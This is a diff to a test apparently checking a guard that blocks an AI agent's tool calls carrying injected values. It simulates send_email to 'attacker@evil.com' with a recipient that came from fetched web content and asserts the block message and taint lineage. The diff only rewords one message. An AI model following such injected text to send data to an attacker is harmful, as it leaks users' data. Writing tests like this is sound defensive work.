@@ -29,7 +29,7 @@ def scene(mode: Mode = Mode.ENFORCE, **more: object) -> Scenario:
 def test_the_text_tells_the_whole_way() -> None:
     told = explain(scene().call("send_email", to="attacker@evil.com", body="x"))
     assert told.splitlines()[0] == "BLOCKED: send_email() called with tainted inputs"
-    assert "Taint source: fetch_url() at step 1.text" in told
+    assert "Taint source: fetch_url() at step 1, field text" in told
     assert 'Injected value detected in argument: to="attacker@evil.com"' in told
     assert (
         'Lineage: fetch_url.text (step 1, untrusted) → value "attacker@evil.com" → summariser (step 2) → '
